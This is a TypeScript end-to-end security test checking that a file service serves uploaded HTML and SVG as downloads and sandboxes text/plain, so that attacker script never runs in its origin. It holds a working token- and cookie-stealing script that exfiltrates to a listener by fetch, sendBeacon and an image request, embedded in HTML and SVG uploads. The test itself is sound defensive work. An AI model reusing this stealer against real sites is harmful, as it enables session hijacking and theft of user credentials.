import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { describeInChromium } from './support/chromium';
import { useBrowserSuite } from './support/suite';
import { ARTIFACTS_DIR } from './support/girderPage';
import { api, registerByApi } from './support/api';
import { register } from './support/journeys';

/**
 * Issue 27's first finding, tried as the attacker would: a user uploads an HTML page (or an SVG) whose script reads
 * the web client's token (`localStorage.girderToken`) and the cookie and sends them to a listener, then has a
 * logged-in user of the web client open `/api/v1/file/<id>/download?contentDisposition=inline`. The file must
 * arrive as a download and its script must never run in the service's origin (docs/security.md, "User bytes").
 */

/** A listener on another port (another origin) that records what reaches it: the attacker's collection point. */
async function startListener(): Promise<{ url: string; received: string[]; close(): Promise<void> }> {
  const received: string[] = [];
  const server = http.createServer((req, res) => {
    received.push(req.url ?? '');
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    received,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** The attacker's script: everything it can read of the session, sent three ways (fetch, beacon, image). */
const stealer = (listener: string) => `
  const loot = 'token=' + encodeURIComponent(String(localStorage.getItem('girderToken'))) +
    '&cookie=' + encodeURIComponent(document.cookie) + '&origin=' + encodeURIComponent(location.origin);
  fetch('${listener}/fetch?' + loot, { mode: 'no-cors' });
  navigator.sendBeacon('${listener}/beacon?' + loot);
  new Image().src = '${listener}/image?' + loot;
`;

/** A 2×3 red PNG. */
const PNG_2X3 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAADCAIAAAA2iEnWAAAAEElEQVR4nGP4z8AARAwoFABE0AX7pM/egAAAAABJRU5ErkJggg==',
  'base64',
);

async function upload(
  baseUrl: string,
  token: string,
  folderId: string,
  name: string,
  mimeType: string,
  content: string | Buffer,
): Promise<string> {
  const query = new URLSearchParams({ parentType: 'folder', parentId: folderId, name, mimeType });
  query.set('size', String(Buffer.byteLength(content)));
  const response = await fetch(`${baseUrl}/api/v1/file?${query.toString()}`, {
    method: 'POST',
    headers: { 'Girder-Token': token, 'Content-Type': 'application/octet-stream' },
    body: content,
  });
  const body = (await response.json()) as { _id: string };
  if (!response.ok) throw new Error(`upload ${name}: ${response.status} ${JSON.stringify(body)}`);
  return body._id;
}

describeInChromium('user bytes never run as the service', () => {
  const ui = useBrowserSuite();
  let listener: Awaited<ReturnType<typeof startListener>>;
  const files: Record<string, string> = {};
  let aliceToken = '';

  beforeAll(async () => {
    listener = await startListener();
    const baseUrl = ui.service.baseUrl;
    const mallory = await registerByApi(baseUrl, 'mallory');
    const folders = (await api(baseUrl, 'GET', `folder?parentType=user&parentId=${mallory._id}`, mallory.token)) as {
      _id: string;
      name: string;
    }[];
    const publicId = folders.find((f) => f.name === 'Public')!._id;
    const script = stealer(listener.url);
    files.html = await upload(
      baseUrl,
      mallory.token,
      publicId,
      'page.html',
      'text/html',
      `<!DOCTYPE html><html><body><h1>Hello</h1><script>${script}</script></body></html>`,
    );
    files.svg = await upload(
      baseUrl,
      mallory.token,
      publicId,
      'image.svg',
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>${script}</script></svg>`,
    );
    // A page mislabelled as plain text (allowed inline): shown as text, its script inert.
    files.text = await upload(
      baseUrl,
      mallory.token,
      publicId,
      'notes.txt',
      'text/plain',
      `<html><body><h1>Not a page</h1><script>${script}</script></body></html>`,
    );
    files.png = await upload(baseUrl, mallory.token, publicId, 'dot.png', 'image/png', PNG_2X3);
  });
  afterAll(() => listener.close());

  it('a logged-in user of the web client holds a token in localStorage and a cookie no script can read', async () => {
    const { page } = ui.session;
    await ui.session.step('register in the web client', async () => {
      await ui.session.goto();
      await register(ui.session, 'alice');
      aliceToken = String(await page.evaluate('window.girder.auth.getCurrentToken()'));
      expect(aliceToken).toMatch(/^[A-Za-z0-9]{64}$/);
      expect(await page.evaluate("localStorage.getItem('girderToken')")).toBe(aliceToken);
      const cookies = await ui.session.context.cookies();
      expect(cookies.find((c) => c.name === 'serviceToken')).toMatchObject({ httpOnly: true, sameSite: 'Lax' });
      expect(await page.evaluate('document.cookie')).not.toContain('serviceToken');
    });
    await ui.session.step('the attacker script works where it runs (the control)', async () => {
      // Run in the service's own origin (what an inline HTML download used to be), it does send the token.
      await page.evaluate(stealer(listener.url));
      await waitFor(() => listener.received.length >= 3);
      expect(listener.received.some((url) => url.includes(`token=${aliceToken}`))).toBe(true);
      listener.received.length = 0;
    });
  });

  for (const [kind, name] of [
    ['html', 'page.html'],
    ['svg', 'image.svg'],
  ] as const) {
    it(`opening the inline link of an uploaded ${kind.toUpperCase()} downloads it and runs nothing`, async () => {
      const { page } = ui.session;
      const url = `${ui.service.baseUrl}/api/v1/file/${files[kind]}/download?contentDisposition=inline`;
      await ui.session.step(`open ${name} in the same tab`, async () => {
        const download = page.waitForEvent('download', { timeout: 10_000 });
        // Chromium aborts the navigation when the answer is an attachment; had the file become the page, its script
        // would have run by the time the load finished.
        await page.goto(url).catch(() => undefined);
        await new Promise((resolve) => setTimeout(resolve, 1000));
        expect(listener.received).toEqual([]);
        expect((await download).suggestedFilename()).toBe(name);
        // The tab stayed on the web client: the file never became the page.
        expect(new URL(page.url()).pathname).toBe('/');
      });
      await ui.session.step(`open ${name} from a link in a new tab`, async () => {
        // The new tab closes as its navigation becomes a download, which Chromium reports to the opener.
        const [download, popup] = await Promise.all([
          page.waitForEvent('download'),
          ui.session.context.waitForEvent('page'),
          page.evaluate(`(() => {
            const a = document.createElement('a');
            a.href = ${JSON.stringify(url)};
            a.target = '_blank';
            document.body.appendChild(a);
            a.click();
            a.remove();
          })()`),
        ]);
        expect(download.suggestedFilename()).toBe(name);
        expect(download.url()).toBe(url);
        if (!popup.isClosed()) await popup.waitForEvent('close');
      });
      // Give a script that ran every chance to be heard.
      await new Promise((resolve) => setTimeout(resolve, 1500));
      expect(listener.received).toEqual([]);
      expect(await page.evaluate("localStorage.getItem('girderToken')")).toBe(aliceToken);
    });
  }

  it('a page labelled text/plain is shown inline as text, sandboxed: its script neither runs nor reads', async () => {
    const viewer = await ui.session.context.newPage();
    try {
      await ui.session.step('open notes.txt inline', async () => {
        const response = await viewer.goto(
          `${ui.service.baseUrl}/api/v1/file/${files.text}/download?contentDisposition=inline`,
        );
        expect(response?.headers()['content-disposition']).toBe('inline; filename="notes.txt"');
        await viewer.getByText('<h1>Not a page</h1>', { exact: false }).waitFor();
        fs.mkdirSync(ARTIFACTS_DIR, { recursive: true });
        await viewer.screenshot({ path: path.join(ARTIFACTS_DIR, 'user-bytes-text-inline.png') });
        // The sandbox gives the document an opaque origin: no storage of the service's, no cookie.
        expect(await viewer.evaluate('window.origin')).toBe('null');
        expect(await viewer.evaluate('document.querySelector("h1")')).toBeNull();
      });
      await new Promise((resolve) => setTimeout(resolve, 1500));
      expect(listener.received).toEqual([]);
    } finally {
      await viewer.close();
    }
  });

  it('an image shown inline still displays under the sandbox', async () => {
    const viewer = await ui.session.context.newPage();
    try {
      await ui.session.step('open dot.png inline', async () => {
        const response = await viewer.goto(
          `${ui.service.baseUrl}/api/v1/file/${files.png}/download?contentDisposition=inline`,
        );
        expect(response?.headers()['content-disposition']).toBe('inline; filename="dot.png"');
        const size = await viewer.evaluate(
          'new Promise((resolve) => { const img = document.querySelector("img"); const done = () => resolve([img.naturalWidth, img.naturalHeight]); img.complete ? done() : img.addEventListener("load", done); })',
        );
        expect(size).toEqual([2, 3]);
      });
    } finally {
      await viewer.close();
    }
  });
});

async function waitFor(condition: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
